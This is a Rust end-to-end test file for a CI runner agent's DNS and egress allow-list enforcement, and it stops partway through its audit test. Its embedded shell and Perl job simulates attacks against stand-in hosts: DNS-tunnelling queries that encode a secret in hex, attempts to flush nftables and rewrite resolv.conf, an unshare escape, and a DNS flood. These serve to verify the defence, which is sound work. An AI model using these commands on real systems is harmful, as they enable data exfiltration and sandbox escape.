//! Egress by name (issue 41) through `rm-agent run`, `isolation = "user"`, `network =
//! "private"` and the stand-in "internet" (`rm_e2e::standin`): the runner package's
//! `bin/Runner.Listener` is a job (a POSIX sh script, run as the runner's uid in its namespaces)
//! that probes what it may reach, writes one line per probe (`name=ok|denied detail`) to a report
//! named after its runtime, then `exec`s the real fake listener so the runner registers and
//! completes its job. Which probes it runs is the word in the report directory's `probes` file,
//! written by the test before it queues the job.
//!
//! - `enforce`: allowed names (and a name under an allowed wildcard) resolve and connect; a
//!   denied name fails to resolve and its address fails to connect; an allowed name's address
//!   dialled before asking DNS fails, and connects once asked; DNS to another resolver and a
//!   burst of unique names of a denied zone are refused, never forwarded, and recorded.
//! - `audit`: the same job reaches everything, the record says what enforce would deny, and the
//!   allow list `rm-agent egress --policy` proposes lets it pass in enforce.
//! - a container of the job's own Docker obeys the same rules.
//! - a hostile job cannot change its rules or resolver, and its flood of queries is rate limited
//!   while another runner's queries are all answered.
//!
//! The enforce, container and hostile tests run the same probes under a control policy without
//! egress, where they succeed: the defence is what makes them fail. The audit test's
//! counterpart is the enforce test (the same job, refused).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

use rm_e2e::fleet::{Fleet, FleetOptions, PolicySpec, REPO, wait_until};
use rm_e2e::standin::{self, StandIn};
use rm_fake_github::RunnerBehavior;
use rm_journal::{AttemptOutcome, AttemptRecord, AttemptState};
use serde_json::Value;

use crate::isolation::base_dir;
use crate::skip;

const EGRESS: &[&str] = &["self-hosted", "egress"];
const OPEN: &[&str] = &["self-hosted", "open"];
const FLOOD: &[&str] = &["self-hosted", "flood"];
const VICTIM: &[&str] = &["self-hosted", "victim"];

/// The allow list of the tests' egress policies (the stand-in's names, one wildcard).
const ALLOW: &str = r#"["public.rm-e2e.test", "direct.rm-e2e.test", "*.cdn.rm-e2e.test"]"#;

/// The name under the allowed wildcard the job reaches (the same in every run: a proposed
/// list may name it exactly).
const WILDCARD_NAME: &str = "a1.cdn.rm-e2e.test";

/// How many unique names of the denied zone the tunnelling burst asks for.
const EXFIL_NAMES: u32 = 50;

/// How many queries the hostile job sends at least, as fast as it can.
const FLOOD_QUERIES: u32 = 3000;

/// How many times the other runner resolves an allowed name during the flood.
const VICTIM_QUERIES: u32 = 50;

/// The job. `@NAME@` are replaced with the stand-in's addresses and the report directory.
const SCRIPT: &str = r#"#!/bin/sh
# A job probing its egress (issue 41): reports `name=ok|denied detail` per probe, then runs the
# real listener so the runner registers and completes its job.
PATH=$PATH:/usr/sbin:/sbin
REPORT='@REPORT@'
PUBLIC='@PUBLIC@'
FORBIDDEN='@FORBIDDEN@'
DIRECT='@DIRECT@'
HERE=$(cd "$(dirname "$0")/.." 2>/dev/null && pwd -P)
REAL="$HERE/bin/Runner.Listener.real"
OUT="$REPORT/${HERE##*/}.txt"
PROBES=$(cat "$REPORT/probes" 2>/dev/null)
# The resolver the job is given (the host's, as its resolv.conf says).
NS=$(awk '$1 == "nameserver" { print $2; exit }' /etc/resolv.conf)

# Sends DNS queries over UDP to ARGV[1]:53 and prints what came back. `serial`: one at a time,
# each waited for (up to 5 s), PACE seconds apart; `flood`: batches of 50 as fast as the
# answers are read, until COUNT are sent and STOP exists (or LIMIT seconds). PATTERN is a
# name, `%d` replaced by the query's number.
DNSQ='use strict; use IO::Socket::INET; use Time::HiRes qw(time sleep);
my ($mode, $server, $count, $pattern, $stop, $limit, $pace) = @ARGV;
my $s = IO::Socket::INET->new(PeerAddr => $server, PeerPort => 53, Proto => "udp") or die "socket: $!\n";
my (%sent, @lat, %rcode); my ($n, $timeouts) = (0, 0); my $end = time + $limit;
sub query { my ($id, $name) = @_; my $q = pack("n6", $id, 0x0100, 1, 0, 0, 0);
    $q .= pack("C", length $_) . $_ for split /\./, $name; return $q . pack("Cn2", 0, 1, 1); }
sub take { my ($wait) = @_; my $rin = ""; vec($rin, fileno($s), 1) = 1;
    return undef unless select(my $r = $rin, undef, undef, $wait) > 0;
    my $buf; defined $s->recv($buf, 4096) or return -1; my ($id, $flags) = unpack("n2", $buf);
    return -1 unless defined $sent{$id}; push @lat, time - delete $sent{$id}; $rcode{$flags & 15}++; return $id; }
if ($mode eq "serial") {
    for my $i (1 .. $count) { my $id = $i % 65536; $sent{$id} = time; $s->send(query($id, sprintf($pattern, $i))); $n++;
        my $until = time + 5; my $got;
        while ((my $left = $until - time) > 0) { $got = take($left); last if !defined $got || $got == $id; }
        if (defined $sent{$id}) { delete $sent{$id}; $timeouts++; }
        sleep $pace; }
} else {
    while (time < $end) { for (1 .. 50) { my $id = $n % 65536; $sent{$id} = time; $s->send(query($id, sprintf($pattern, $n))); $n++; }
        while (defined(take(0.005))) {}
        last if $n >= $count && -e $stop; }
    my $until = time + 2; while ((my $left = $until - time) > 0) { last unless defined take($left); }
    $timeouts = scalar keys %sent; }
my @sorted = sort { $a <=> $b } @lat; my $pct = sub { @sorted ? 1000 * $sorted[int($_[0] * $#sorted)] : -1 };
printf "sent=%d answered=%d noerror=%d nxdomain=%d refused=%d timeouts=%d p50_ms=%.2f p99_ms=%.2f\n",
    $n, scalar @lat, $rcode{0} // 0, $rcode{3} // 0, $rcode{5} // 0, $timeouts, $pct->(0.5), $pct->(0.99);'

say() {
    printf '%s=%s %s\n' "$1" "$2" "$3" >>"$OUT" 2>/dev/null
}

# try NAME COMMAND...: `ok` if the command succeeds, `denied` with what it said otherwise.
try() {
    name=$1
    shift
    if out=$("$@" 2>&1 </dev/null); then
        say "$name" ok "$(printf '%s' "$out" | tr '\n' ' ' | head -c 200)"
    else
        say "$name" denied "$(printf '%s' "$out" | tr '\n' ' ' | head -c 200)"
    fi
}

# get URL BODY: curl fetches URL and its page holds BODY.
get() {
    body=$(curl -sS -m 5 "$1" 2>&1) || { echo "$body"; return 1; }
    echo "$body"
    case "$body" in *"$2"*) return 0 ;; esac
    return 1
}

# wget_ URL BODY: the same through GNU wget.
wget_() {
    body=$(wget -q -T 5 -t 1 -O - "$1" 2>&1) || { echo "$body"; return 1; }
    echo "$body"
    case "$body" in *"$2"*) return 0 ;; esac
    return 1
}

# bget URL BODY: the same through busybox wget (its `-T` crashes busybox 1.35: `timeout`).
bget() {
    body=$(timeout 10 busybox wget -q -O - "$1" 2>&1) || { echo "$body"; return 1; }
    echo "$body"
    case "$body" in *"$2"*) return 0 ;; esac
    return 1
}

# cget URL BODY: the same from a container of the job's own Docker.
cget() {
    body=$(timeout 120 docker run --rm rm-e2e-base wget -q -O - "$1" 2>&1) || { echo "$body"; return 1; }
    echo "$body"
    case "$body" in *"$2"*) return 0 ;; esac
    return 1
}

# resolves NAME ADDR: NAME resolves to ADDR (the C library, through the job's resolv.conf).
resolves() {
    out=$(getent ahostsv4 "$1") || { echo "getent: exit $?"; return 1; }
    echo "$out" | head -n 1
    printf '%s\n' "$out" | grep -q "^$2 "
}

# other: another resolver (at the public address) answers a query sent to it directly.
other() {
    out=$(timeout 10 busybox nslookup public.rm-e2e.test "$PUBLIC" 2>&1) || { echo "$out"; return 1; }
    echo "$out"
    case "$out" in *Name:*) return 0 ;; esac
    return 1
}

# connect ADDR:PORT: a TCP connection is made.
connect() {
    perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => $ARGV[0], Timeout => 5) or die "$!\n"' "$1"
}

# probes all|names: what a job reaches by name and by address.
probes() {
    try wildcard get "http://@WILDCARD@/" PUBLIC-OK
    try allowed_resolves resolves public.rm-e2e.test "$PUBLIC"
    try allowed_connects get http://public.rm-e2e.test/ PUBLIC-OK
    try allowed_wget wget_ http://public.rm-e2e.test/ PUBLIC-OK
    try allowed_busybox_wget bget http://public.rm-e2e.test/ PUBLIC-OK
    try denied_resolves resolves denied.rm-e2e.test "$FORBIDDEN"
    try denied_connects get http://denied.rm-e2e.test/ FORBIDDEN-REACHED
    try forbidden_direct get "http://$FORBIDDEN/" FORBIDDEN-REACHED
    if [ "$1" = all ]; then
        try direct_before_dns get "http://$DIRECT/" DIRECT-OK
    fi
    try direct_resolves resolves direct.rm-e2e.test "$DIRECT"
    try direct_after_dns get "http://$DIRECT/" DIRECT-OK
    if [ "$1" = all ]; then
        try other_resolver other
        try other_resolver_tcp connect "$PUBLIC:53"
    fi
    i=0
    n=0
    while [ "$i" -lt @EXFIL@ ]; do
        if getent ahostsv4 "t$i-6d792d7365637265742d6b6579.exfil.rm-e2e.test" >/dev/null 2>&1; then
            n=$((n + 1))
        fi
        i=$((i + 1))
    done
    say exfil_resolved "$n" "of @EXFIL@"
}

# What the job's containers reach.
containers() {
    try container_allowed cget http://public.rm-e2e.test/ PUBLIC-OK
    try container_denied_name cget http://denied.rm-e2e.test/ FORBIDDEN-REACHED
    try container_forbidden cget "http://$FORBIDDEN/" FORBIDDEN-REACHED
}

# A hostile job: tries to change its rules and its resolver, then floods the resolver until
# the other runner is done.
hostile() {
    try nft_flush nft flush ruleset
    try nft_flush_userns unshare -r nft flush ruleset
    try nft_add nft add element ip rm allowed "{ $FORBIDDEN }"
    try resolv_conf sh -c 'echo "nameserver $1" >/etc/resolv.conf' _ "$PUBLIC"
    try unshare_forbidden unshare -rn sh -c 'out=$(curl -sS -m 5 "http://$1/" 2>&1); echo "$out"; case "$out" in *FORBIDDEN-REACHED*) exit 0 ;; esac; exit 1' _ "$FORBIDDEN"
    try forbidden_after get "http://$FORBIDDEN/" FORBIDDEN-REACHED
    try denied_after resolves denied.rm-e2e.test "$FORBIDDEN"
    : >"$REPORT/flooding"
    say flood "$(perl -e "$DNSQ" flood "$NS" @FLOOD@ 'f%d.cdn.rm-e2e.test' "$REPORT/stop-flood" 120 0 2>&1 | tr '\n' ' ')" ""
}

# The other runner: resolves an allowed name, one query at a time, while the hostile job floods.
victim() {
    say victim "$(perl -e "$DNSQ" serial "$NS" @VICTIM@ public.rm-e2e.test none 60 0.05 2>&1 | tr '\n' ' ')" ""
    : >"$REPORT/stop-flood"
}

# wait_for FILE: until the test creates FILE (at most two minutes).
wait_for() {
    i=0
    while [ ! -e "$1" ] && [ "$i" -lt 600 ]; do
        sleep 0.2
        i=$((i + 1))
    done
}

# Across an agent crash: before it, while no agent runs, and under the next agent.
crash() {
    try before_resolves resolves public.rm-e2e.test "$PUBLIC"
    try before_connects get http://public.rm-e2e.test/ PUBLIC-OK
    : >"$REPORT/phase1"
    wait_for "$REPORT/go1"
    try down_resolves resolves public.rm-e2e.test "$PUBLIC"
    try down_opened get "http://$PUBLIC/" PUBLIC-OK
    try down_forbidden get "http://$FORBIDDEN/" FORBIDDEN-REACHED
    try down_direct get "http://$DIRECT/" DIRECT-OK
    : >"$REPORT/phase2"
    wait_for "$REPORT/go2"
    try after_resolves resolves direct.rm-e2e.test "$DIRECT"
    try after_connects get "http://$DIRECT/" DIRECT-OK
    try after_denied resolves denied.rm-e2e.test "$FORBIDDEN"
    try after_forbidden get "http://$FORBIDDEN/" FORBIDDEN-REACHED
}

case "$PROBES" in
crash) crash ;;
all) probes all ;;
names) probes names ;;
containers) containers ;;
hostile) hostile ;;
victim) victim ;;
esac
exec "$REAL" "$@"
"#;

/// One line of a report: the outcome (`ok`, `denied`, or a value) and what the job saw.
type Report = BTreeMap<String, (String, String)>;

/// The probes that must succeed under a policy without egress (the control) and under audit.
const REACHES: &[&str] = &[
    "wildcard",
    "allowed_resolves",
    "allowed_connects",
    "allowed_wget",
    "allowed_busybox_wget",
    "denied_resolves",
    "denied_connects",
    "forbidden_direct",
    "direct_before_dns",
    "direct_resolves",
    "direct_after_dns",
    "other_resolver",
    "other_resolver_tcp",
];

/// Of [`REACHES`], what an enforced allow list of the stand-in's names lets through.
const ALLOWED: &[&str] = &[
    "wildcard",
    "allowed_resolves",
    "allowed_connects",
    "allowed_wget",
    "allowed_busybox_wget",
    "direct_resolves",
    "direct_after_dns",
];

/// Of [`REACHES`], what it refuses.
const REFUSED: &[&str] = &[
    "denied_resolves",
    "denied_connects",
    "forbidden_direct",
    "direct_before_dns",
    "other_resolver",
    "other_resolver_tcp",
];

/// A fleet whose package is the probing job, with the stand-in its agent resolves through.
struct Egress {
    fleet: Fleet,
    reports: PathBuf,
    standin: StandIn,
}

/// `[policy.egress]` lines: `allow` (a TOML array) and `mode`.
fn egress_lines(allow: &str, mode: &str) -> &'static str {
    Box::leak(format!("[policy.egress]\nallow = {allow}\nmode = \"{mode}\"\n").into_boxed_str())
}

/// A policy of `name` with `extra`, one runner.
fn policy(name: &'static str, labels: &'static [&'static str], extra: &'static str) -> PolicySpec {
    PolicySpec {
        name,
        target: "acme",
        labels,
        max_runners: 1,
        workspace: "ephemeral",
        extra,
    }
}

/// The fleet's options: isolated runners in private networks, no host egress defaults (the
/// fake GitHub is reached through its host port).
fn options(policies: Vec<PolicySpec>) -> FleetOptions {
    FleetOptions {
        host_max: 4,
        policies,
        isolation: Some("user"),
        host_extra: "network = \"private\"\negress_allow = []\n".to_owned(),
        base_dir: Some(base_dir()),
        ..FleetOptions::default()
    }
}

/// Whether `tool` is a program on the `PATH` (or in `/usr/sbin`).
fn tool(tool: &str) -> bool {
    std::env::var("PATH")
        .unwrap_or_default()
        .split(':')
        .chain(["/usr/sbin", "/sbin"])
        .any(|dir| Path::new(dir).join(tool).is_file())
}

/// Whether the tools the job uses are here; if not, records the skip (or fails, as the skip
/// rule says).
fn tools_here(test: &str) -> bool {
    for need in [
        "curl", "wget", "busybox", "perl", "getent", "unshare", "nsenter", "nft", "ip",
    ] {
        if !tool(need) {
            skip::cannot_run(test, need, &format!("{need} is not installed"));
            return false;
        }
    }
    true
}

async fn egress_fleet(options: FleetOptions) -> Egress {
    let fleet = Fleet::start(options).await;
    let reports = fleet.reports_dir();
    let standin = StandIn::start();
    let script = SCRIPT
        .replace("@REPORT@", &reports.display().to_string())
        .replace("@PUBLIC@", &standin.public.to_string())
        .replace("@FORBIDDEN@", &standin.forbidden.to_string())
        .replace("@DIRECT@", &standin.direct.to_string())
        .replace("@WILDCARD@", WILDCARD_NAME)
        .replace("@EXFIL@", &EXFIL_NAMES.to_string())
        .replace("@FLOOD@", &FLOOD_QUERIES.to_string())
        .replace("@VICTIM@", &VICTIM_QUERIES.to_string());
    fleet.wrap_listener(&script);
    fleet.fake.set_runner_behavior(RunnerBehavior {
        job_duration_ms: 300,
        ..RunnerBehavior::default()
    });
    Egress {
        fleet,
        reports,
        standin,
    }
}

impl Egress {
    /// Starts the agent in the stand-in's mount namespace (it and its runners resolve through
    /// the stand-in's loopback resolver).
    async fn start_agent(&self) -> rm_e2e::Agent {
        self.fleet
            .start_agent_with(&[], |command| self.standin.agent_mount_namespace(command))
            .await
    }

    /// Writes the probes the next job runs.
    fn probes(&self, probes: &str) {
        std::fs::write(self.reports.join("probes"), probes).unwrap();
    }

    /// Queues a job of `labels` and waits until it is done and every attempt cleaned; the job
    /// and the attempt started for it.
    async fn run(&self, name: &str, labels: &'static [&'static str]) -> (u64, AttemptRecord) {
        let before = self.attempt_ids();
        let job = self.fleet.fake.queue_job(REPO, name, labels).unwrap();
        wait_until(
            Duration::from_secs(180),
            &format!("job {name} done and its attempt cleaned"),
            || self.fleet.completed(job) && self.fleet.all_cleaned(),
        )
        .await;
        (job, self.started_since(&before, name))
    }

    fn attempt_ids(&self) -> Vec<rm_journal::AttemptId> {
        self.fleet
            .attempts()
            .into_iter()
            .map(|a| a.attempt_id)
            .collect()
    }

    /// The one attempt not in `before` (which job an attempt took is journalled from GitHub's
    /// word, which may come after the job is done).
    fn started_since(&self, before: &[rm_journal::AttemptId], name: &str) -> AttemptRecord {
        let mut new: Vec<AttemptRecord> = self
            .fleet
            .attempts()
            .into_iter()
            .filter(|a| !before.contains(&a.attempt_id))
            .collect();
        assert_eq!(new.len(), 1, "one runner started for job {name}: {new:?}");
        new.remove(0)
    }

    /// The report the job of `attempt` wrote (named after its runtime directory).
    fn report(&self, attempt: &AttemptRecord) -> Report {
        let name = attempt.runtime_dir.file_name().unwrap().to_str().unwrap();
        let path = self.reports.join(format!("{name}.txt"));
        let text = std::fs::read_to_string(&path).unwrap_or_else(|e| {
            panic!(
                "the job of attempt {} wrote no report {}: {e}",
                attempt.attempt_id.as_str(),
                path.display()
            )
        });
        eprintln!(
            "report of {} ({}):\n{text}",
            attempt.attempt_id.short(),
            attempt.policy
        );
        text.lines()
            .filter_map(|line| {
                let (name, rest) = line.split_once('=')?;
                let (outcome, detail) = rest.split_once(' ').unwrap_or((rest, ""));
                Some((name.to_owned(), (outcome.to_owned(), detail.to_owned())))
            })
            .collect()
    }

    /// `rm-agent egress JOB --json`: each attempt's record.
    fn records(&self, job: u64) -> Vec<Value> {
        let out = self
            .fleet
            .setup
            .run(&["egress", &job.to_string(), "--json"]);
        assert!(out.status.success(), "egress {job} --json: {out:?}");
        let doc: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
            panic!(
                "egress {job} --json printed no JSON ({e}): {}",
                String::from_utf8_lossy(&out.stdout)
            )
        });
        assert_eq!(doc["job"], job, "{doc}");
        doc["attempts"]
            .as_array()
            .unwrap_or_else(|| panic!("no attempts: {doc}"))
            .iter()
            .map(|a| a["egress"].clone())
            .filter(|r| !r.is_null())
            .collect()
    }

    /// `rm-agent egress JOB --json`'s one record of `job`, and the one `explain JOB --json`
    /// shows for it (its attempt's `egress`), which must say the same.
    fn record(&self, job: u64) -> Value {
        let records = self.records(job);
        assert_eq!(records.len(), 1, "one attempt's record: {records:?}");
        let explained = records_in(&self.fleet.explain(job));
        assert_eq!(
            explained, records,
            "explain's egress is not the record `rm-agent egress` prints"
        );
        eprintln!("egress of job {job}: {:#}", records[0]);
        records[0].clone()
    }
}

/// Every `egress` object of an `explain --json` answer (each attempt's), wherever it is.
fn records_in(value: &Value) -> Vec<Value> {
    let mut found = Vec::new();
    match value {
        Value::Object(map) => {
            for (key, v) in map {
                // An attempt's record, not a policy's settings.
                if key == "egress" && v.get("names").is_some() {
                    found.push(v.clone());
                } else {
                    found.extend(records_in(v));
                }
            }
        }
        Value::Array(items) => items.iter().for_each(|v| found.extend(records_in(v))),
        _ => {}
    }
    found
}

/// Whether an allow list's `entry` (a name or a `*.` wildcard over names below it) covers
/// `name`.
fn covers(entry: &str, name: &str) -> bool {
    match entry.strip_prefix("*.") {
        Some(zone) => name
            .strip_suffix(zone)
            .is_some_and(|head| head.len() > 1 && head.ends_with('.')),
        None => entry == name,
    }
}

/// The verdict a record gives `name`.
fn name_verdict(record: &Value, name: &str) -> Option<String> {
    record["names"]
        .as_array()?
        .iter()
        .find(|n| n["name"] == name)
        .and_then(|n| n["verdict"].as_str().map(str::to_owned))
}

/// The verdicts a record gives the connections to `address` (one per port and verdict).
fn address_verdicts(record: &Value, address: std::net::Ipv4Addr) -> Vec<String> {
    record["addresses"]
        .as_array()
        .map(|all| {
            all.iter()
                .filter(|a| a["address"] == address.to_string())
                .filter_map(|a| a["verdict"].as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default()
}

/// The `tunnelling` entries of a record whose zone holds the names of `zone` (the zone itself
/// or one above it): their zones and unique names.
fn tunnelling_over(record: &Value, zone: &str) -> Vec<(String, u64)> {
    record["tunnelling"]
        .as_array()
        .map(|all| {
            all.iter()
                .filter_map(|t| {
                    let counted = t["zone"].as_str()?;
                    let holds = zone == counted
                        || zone
                            .strip_suffix(counted)
                            .is_some_and(|head| head.ends_with('.'));
                    holds.then(|| (counted.to_owned(), t["unique_names"].as_u64().unwrap_or(0)))
                })
                .collect()
        })
        .unwrap_or_default()
}

fn outcome<'r>(report: &'r Report, name: &str) -> Option<&'r str> {
    report.get(name).map(|(o, _)| o.as_str())
}

/// Each of `names` has `want` in `report`, or a finding saying which did not, under `what`.
fn expect(report: &Report, names: &[&str], want: &str, what: &str, findings: &mut Vec<String>) {
    for name in names {
        if outcome(report, name) != Some(want) {
            findings.push(format!(
                "{what}: {name} is not {want}: {:?}",
                report.get(*name)
            ));
        }
    }
}

/// The `key=value` fields of a report's perl DNS summary line (`flood=sent=3000 answered=...
/// p99_ms=...`).
fn summary(report: &Report, name: &str) -> BTreeMap<String, String> {
    let Some((outcome, detail)) = report.get(name) else {
        return BTreeMap::new();
    };
    format!("{outcome} {detail}")
        .split_whitespace()
        .filter_map(|f| {
            let (k, v) = f.split_once('=')?;
            Some((k.to_owned(), v.to_owned()))
        })
        .collect()
}

/// A count of a [`summary`]; `None` when it is not there.
fn count(summary: &BTreeMap<String, String>, key: &str) -> Option<u64> {
    summary.get(key)?.parse().ok()
}

/// A value of a [`summary`] as printed, `?` when it is not there.
fn shown<'s>(summary: &'s BTreeMap<String, String>, key: &str) -> &'s str {
    summary.get(key).map_or("?", String::as_str)
}

/// What is left of `attempts` once cleaned ([`crate::docker::left_of`]: processes, mounts,
/// network namespaces, veths, cgroups, runtimes), any nftables table of the host naming them,
/// and whether the agent's host table is there.
fn kernel_left(fleet: &Fleet, attempts: &[AttemptRecord]) -> Vec<String> {
    let mut left = crate::docker::left_of(fleet, attempts, &[]);
    let tables = std::process::Command::new("nft")
        .args(["list", "ruleset"])
        .output()
        .unwrap();
    let ruleset = String::from_utf8_lossy(&tables.stdout).into_owned();
    for a in attempts {
        let short = a.attempt_id.short();
        if ruleset.contains(short) {
            left.push(format!("the host's nftables ruleset names attempt {short}"));
        }
    }
    let host_table = rm_runner::network::host_table_name(&fleet.setup.dir.path().join("data"));
    if !ruleset.contains(&format!("table inet {host_table}")) {
        left.push(format!("the agent's host table {host_table} is not there"));
    }
    left
}

/// Waits (bounded) until [`kernel_left`] is empty; what is left otherwise.
async fn nothing_left(fleet: &Fleet) -> Vec<String> {
    let mut left = Vec::new();
    for _ in 0..50 {
        left = kernel_left(fleet, &fleet.attempts());
        if left.is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    left
}

/// `enforce`: the allowed names connect and nothing else does, the record lists each, the
/// upstream never sees a denied name, nothing is left in the kernel. The control (the same job
/// under a policy without egress) reaches all of it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn enforce_allows_names_and_refuses_the_rest() {
    if !tools_here("egress::enforce_allows_names_and_refuses_the_rest") {
        return;
    }
    let egress = egress_fleet(options(vec![
        policy("egress", EGRESS, egress_lines(ALLOW, "enforce")),
        policy("open", OPEN, ""),
    ]))
    .await;
    let fleet = &egress.fleet;
    let standin = &egress.standin;
    let _agent = egress.start_agent().await;
    let mut findings = Vec::new();

    egress.probes("all");
    let (job, attempt) = egress.run("egress", EGRESS).await;
    let report = egress.report(&attempt);
    // What the upstream and the stand-in's servers saw of the egress job alone.
    let upstream = standin.loopback_queries.all();
    let other = standin.other_queries.all();
    let forbidden_hits = standin.connections.of(&standin.forbidden.to_string());
    eprintln!("upstream saw {upstream:?}; the other resolver saw {other:?}");
    expect(&report, ALLOWED, "ok", "enforce", &mut findings);
    expect(&report, REFUSED, "denied", "enforce", &mut findings);
    if outcome(&report, "exfil_resolved") != Some("0") {
        findings.push(format!(
            "names of the denied zone resolved: {:?}",
            report.get("exfil_resolved")
        ));
    }
    if forbidden_hits != 0 {
        findings.push(format!(
            "EGRESS BREACH: the forbidden server got {forbidden_hits} connections"
        ));
    }
    // The agent's resolver refuses denied names itself: the upstream never sees them.
    if standin.loopback_queries.of(standin::DENIED_NAME) != 0 {
        findings.push(format!(
            "the upstream saw {} (enforce never forwards a denied name): {upstream:?}",
            standin::DENIED_NAME
        ));
    }
    if standin.loopback_queries.under(standin::EXFIL_ZONE) != 0 {
        findings.push(format!(
            "the upstream saw names of the denied zone {}: {upstream:?}",
            standin::EXFIL_ZONE
        ));
    }
    if standin.loopback_queries.of(standin::PUBLIC_NAME) == 0 {
        findings.push(format!(
            "the upstream never saw {}: the job did not resolve through the agent's resolver and \
             its upstream ({upstream:?})",
            standin::PUBLIC_NAME
        ));
    }
    if !other.is_empty() {
        findings.push(format!(
            "EGRESS BREACH: the other resolver answered {other:?}"
        ));
    }

    // The record, as `rm-agent egress` and `explain` show it.
    let record = egress.record(job);
    if record["mode"] != "enforce" {
        findings.push(format!("mode: {}", record["mode"]));
    }
    for (name, want) in [
        (standin::PUBLIC_NAME, "allowed"),
        (standin::DIRECT_NAME, "allowed"),
        (WILDCARD_NAME, "allowed"),
        (standin::DENIED_NAME, "denied"),
    ] {
        let got = name_verdict(&record, name);
        if got.as_deref() != Some(want) {
            findings.push(format!("record: {name} is {got:?}, not {want}"));
        }
    }
    for (address, what) in [(standin.forbidden, "forbidden"), (standin.direct, "direct")] {
        let verdicts = address_verdicts(&record, address);
        if !verdicts.iter().any(|v| v == "denied") {
            findings.push(format!(
                "record: no denied connection to the {what} address {address}: {verdicts:?}"
            ));
        }
    }
    if !address_verdicts(&record, standin.public)
        .iter()
        .any(|v| v == "allowed")
    {
        findings.push(format!(
            "record: no allowed connection to the public address {}",
            standin.public
        ));
    }
    if record["other_resolver"].as_u64().unwrap_or(0) < 1 {
        findings.push(format!(
            "record: other_resolver {}",
            record["other_resolver"]
        ));
    }
    // The burst is counted as tunnelling, in the zone itself (not one above it, which the
    // denied name shares).
    let tunnelled = tunnelling_over(&record, standin::EXFIL_ZONE);
    if !tunnelled
        .iter()
        .any(|(zone, unique)| zone == standin::EXFIL_ZONE && *unique >= u64::from(EXFIL_NAMES))
    {
        findings.push(format!(
            "record: tunnelling does not count the {EXFIL_NAMES} names of {} there: {}",
            standin::EXFIL_ZONE,
            record["tunnelling"]
        ));
    }
    let text = egress.fleet.setup.run(&["egress", &job.to_string()]);
    let shown = String::from_utf8_lossy(&text.stdout).into_owned();
    eprintln!("rm-agent egress {job}:\n{shown}");
    if !text.status.success()
        || !shown.contains(standin::PUBLIC_NAME)
        || !shown.contains(standin::DENIED_NAME)
    {
        findings.push(format!(
            "rm-agent egress {job} does not list both names: {text:?}"
        ));
    }
    // The job's own log ends with what was refused (the agent's job-completed hook), and the
    // runner's kept logs hold it.
    let logs = egress.fleet.setup.run(&["logs", &job.to_string()]);
    let kept = String::from_utf8_lossy(&logs.stdout).into_owned();
    let said: Vec<&str> = kept
        .lines()
        .filter(|l| l.contains("rm egress (enforce):"))
        .collect();
    eprintln!("the job's log says:\n{}", said.join("\n"));
    if !said
        .iter()
        .any(|l| l.contains("name(s) asked refused") && l.contains(standin::DENIED_NAME))
        || !said.iter().any(|l| {
            l.contains("connection(s) refused") && l.contains(&standin.forbidden.to_string())
        })
    {
        findings.push(format!(
            "the job's kept log does not say what was refused: {said:?} (rm-agent logs: {:?})",
            logs.status
        ));
    }

    // Nothing of the runner left in the kernel; the agent's host table stays.
    let left = nothing_left(fleet).await;
    if !left.is_empty() {
        findings.push(format!("left in the kernel: {left:?}"));
    }

    // The control: the same probes under a policy without egress reach everything.
    let (_, open) = egress.run("open", OPEN).await;
    let control = egress.report(&open);
    expect(
        &control,
        REACHES,
        "ok",
        "the control (no egress)",
        &mut findings,
    );
    if standin.connections.of(&standin.forbidden.to_string()) == 0 {
        findings.push("the control never reached the forbidden server".to_owned());
    }
    if standin.loopback_queries.of(standin::DENIED_NAME) == 0
        || standin.loopback_queries.under(standin::EXFIL_ZONE) == 0
    {
        findings.push(format!(
            "the control's denied names never reached the upstream: {:?}",
            standin.loopback_queries.all()
        ));
    }
    if standin.other_queries.of(standin::PUBLIC_NAME) == 0 {
        findings.push("the control's query never reached the other resolver".to_owned());
    }
    for a in [&attempt, &open] {
        if a.state != AttemptState::Cleaned || a.outcome != Some(AttemptOutcome::CompletedJob) {
            findings.push(format!("attempt {a:?}"));
        }
    }
    assert!(
        findings.is_empty(),
        "egress enforce:\n{}",
        findings.join("\n")
    );
}

/// `audit`: the same job reaches everything and the record says what enforce would deny; the
/// allow list `rm-agent egress --policy` proposes from it, enforced, lets the job (without the
/// probes no list of names permits) pass. What enforce refuses of the same job is the enforce
/// test's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_records_everything_and_its_proposal_passes_in_enforce() {
    if !tools_here("egress::audit_records_everything_and_its_proposal_passes_in_enforce") {
        return;
    }
    let mut opts = options(vec![policy("egress", EGRESS, egress_lines(ALLOW, "audit"))]);
    let egress = egress_fleet(opts.clone()).await;
    let fleet = &egress.fleet;
    let standin = &egress.standin;
    let agent = egress.start_agent().await;
    let mut findings = Vec::new();

    egress.probes("all");
    let (job, attempt) = egress.run("audited", EGRESS).await;
    let report = egress.report(&attempt);
    expect(&report, REACHES, "ok", "audit", &mut findings);
    if standin.connections.of(&standin.forbidden.to_string()) == 0 {
        findings.push("audit: the forbidden server was never reached".to_owned());
    }
    // Audit forwards everything.
    if standin.loopback_queries.of(standin::DENIED_NAME) == 0 {
        findings.push(format!(
            "audit: the upstream never saw {}: {:?}",
            standin::DENIED_NAME,
            standin.loopback_queries.all()
        ));
    }
    let record = egress.record(job);
    if record["mode"] != "audit" {
        findings.push(format!("mode: {}", record["mode"]));
    }
    for (name, want) in [
        (standin::PUBLIC_NAME, "allowed"),
        (WILDCARD_NAME, "allowed"),
        (standin::DENIED_NAME, "would_deny"),
    ] {
        let got = name_verdict(&record, name);
        if got.as_deref() != Some(want) {
            findings.push(format!("record: {name} is {got:?}, not {want}"));
        }
    }
    if !address_verdicts(&record, standin.forbidden)
        .iter()
        .any(|v| v == "would_deny")
    {
        findings.push(format!(
            "record: the forbidden address {} is not would_deny: {}",
            standin.forbidden, record["addresses"]
        ));
    }

    // The proposal, from what the job used.
    let out = fleet
        .setup
        .run(&["egress", "--policy", "egress", "--since", "1d", "--json"]);
    assert!(out.status.success(), "egress --policy: {out:?}");
    let proposal: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "egress --policy --json printed no JSON ({e}): {}",
            String::from_utf8_lossy(&out.stdout)
        )
    });
    eprintln!("proposed: {proposal}");
    let allow = proposal["allow"].clone();
